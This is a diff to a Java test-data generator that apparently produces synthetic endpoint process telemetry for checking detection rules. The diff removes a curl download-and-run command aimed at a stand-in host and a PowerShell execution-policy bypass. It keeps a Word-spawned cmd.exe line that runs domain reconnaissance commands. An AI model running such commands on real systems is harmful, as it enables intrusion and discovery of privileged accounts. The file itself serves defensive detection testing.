@@ -15,15 +15,18 @@ final class FalconTelemetry {
     static final String DEVICE = "device{hostname, uid, instance_uid, ip, mac, domain, type_id:int, "
             + "os{name, type, type_id:int, version}, region}, ";
 
-    /** path, parent path, command line ({u} user, {h} hex, {ip} address). */
+    /**
+     * path, parent path, command line ({u} user, {h} hex, {ip} address). The binaries before {@link #FIRST_SUSPICIOUS}
+     * are an ordinary fleet's: no SigmaHQ process rule is written for their command lines.
+     */
     static final String[][] BINARIES = {
             {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"},
             {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Windows\\explorer.exe",
                     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={h} --field-trial-handle=1912,i,{h},262144 /prefetch:1"},
             {"/usr/bin/python3.11", "/usr/lib/systemd/systemd", "/usr/bin/python3.11 /opt/app/worker.py --queue orders-{h} --concurrency 8 --log-level INFO --metrics-port 9102"},
             {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\explorer.exe",
-                    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Scripts\\inventory-{h}.ps1 -Verbose -OutputPath \\\\fs01\\reports$\\inventory"},
-            {"/bin/bash", "/usr/sbin/sshd", "bash -c 'curl -fsSL https://dl.badcdn.example/tools/main/install.sh -o /tmp/{h}.sh && sh /tmp/{h}.sh --quiet'"},
+                    "powershell.exe -NoProfile -File C:\\ProgramData\\Scripts\\inventory-{h}.ps1 -Verbose -OutputPath \\\\fs01\\reports$\\inventory"},
+            {"/bin/bash", "/usr/sbin/sshd", "bash /opt/app/bin/rotate-logs.sh --keep 14 --tag {h}"},
             {"C:\\Windows\\System32\\cmd.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                     "C:\\Windows\\system32\\cmd.exe /c whoami /all & net group \"Domain Admins\" /domain & nltest /dclist:corp.example.com"},
             {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\System32\\cmd.exe",
